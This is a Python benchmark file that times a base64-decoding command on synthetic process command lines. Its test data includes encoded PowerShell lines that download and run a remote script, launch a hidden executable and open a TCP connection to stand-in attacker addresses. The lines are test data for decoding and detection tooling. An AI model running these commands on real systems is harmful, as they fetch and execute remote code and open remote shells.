"""b64decode on encoded PowerShell lines and on ordinary command lines, selected fields."""

from __future__ import annotations

import base64
import random
from typing import Iterator

from tests.bench import data
from tests.bench.driver import COMMANDS, REPOSITORY, Contender, compare
from tests.bench.report import Table

ECHO = "raw echo"
STOCK = "stock SDK unchanged"
FIELD = "CommandLine"
CONTENDERS = {
    ECHO: Contender(COMMANDS / "raw_echo.py"),
    "b64decode": Contender(REPOSITORY / "bin" / "b64decode.py", (FIELD,)),
}
EVENTS = 20_000
_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_CALLS = (
    f'"{_POWERSHELL}" -nop -w hidden -enc ',
    f"{_POWERSHELL} -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand ",
    "powershell.exe -ep bypass -noni -w hidden -e ",
    "cmd.exe /c start /b powershell -sta -noprofile -ec ",
)
_SCRIPTS = (
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/{number}.ps1')",
    "Start-Process -FilePath C:\\ProgramData\\{number}.exe -ArgumentList '/S' -WindowStyle Hidden",
    "$c = New-Object Net.Sockets.TCPClient('198.51.100.23', {number}); $s = $c.GetStream()",
)
_ORDINARY = (
    r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule -t {number}",
    r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=de '
    r"--device-scale-factor=1 --num-raster-threads=4 --renderer-client-id={number}",
    r'C:\Windows\system32\cmd.exe /c "net user /domain" > C:\Temp\{number}.txt',
    r"rundll32.exe shell32.dll,Control_RunDLL desk.cpl,{number}",
    r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding {number}",
    r"taskhostw.exe Install {{6bdd1fc6-810f-11d0-bec7-{number:012x}}}",
    r'powershell.exe -ExecutionPolicy Bypass -File "C:\ProgramData\inventory{number}.ps1"',
    r"reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v Updater{number}",
    rf"{_POWERSHELL} -NoLogo -Command Get-Process -Id {{number}} | Select-Object Name, Path",
    r'"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default '
    r"--single-argument https://intranet.example.com/news/{number}",
    r"C:\Windows\System32\backgroundTaskHost.exe -ServerName:BackgroundTaskHost.WebAccount{number}",
    r"/usr/bin/python3 /opt/monitoring/bin/check_disk.py --mount /var/lib/docker --warn {number}",
)


def tables(rounds: int) -> Iterator[Table]:
    """Measure 20,000 events of each kind in one chunk, and the stock SDK to know the machine by."""
    stock = {STOCK: Contender(COMMANDS / "stock.py")}
    figures = compare(stock, [data.firewall(EVENTS)], EVENTS, rounds)
    yield Table("this machine: 28 columns, 404 bytes", figures, (STOCK,))
    draw = random.Random(7)
    cases = {
        "encoded": [_encoded(draw, number) for number in range(EVENTS)],
        "no payload": [_ordinary(draw, number) for number in range(EVENTS)],
        "no payload, repeated": [_ordinary(draw, draw.randrange(50)) for _ in range(EVENTS)],
    }
    for title, lines in cases.items():
        size, distinct = sum(map(len, lines)) // EVENTS, len(set(lines))
        body, first = data.column(FIELD, lines), data.column(FIELD, ["first"])
        figures = compare(CONTENDERS, [body], EVENTS, rounds, first)
        yield Table(f"{title}, {distinct:,} distinct lines, {size} bytes", figures, (ECHO,))


def _encoded(draw: random.Random, number: int) -> str:
    script = draw.choice(_SCRIPTS).format(number=number)
    payload = base64.b64encode(script.encode("utf-16-le")).decode()
    return draw.choice(_CALLS) + payload


def _ordinary(draw: random.Random, number: int) -> str:
    return draw.choice(_ORDINARY).format(number=number)
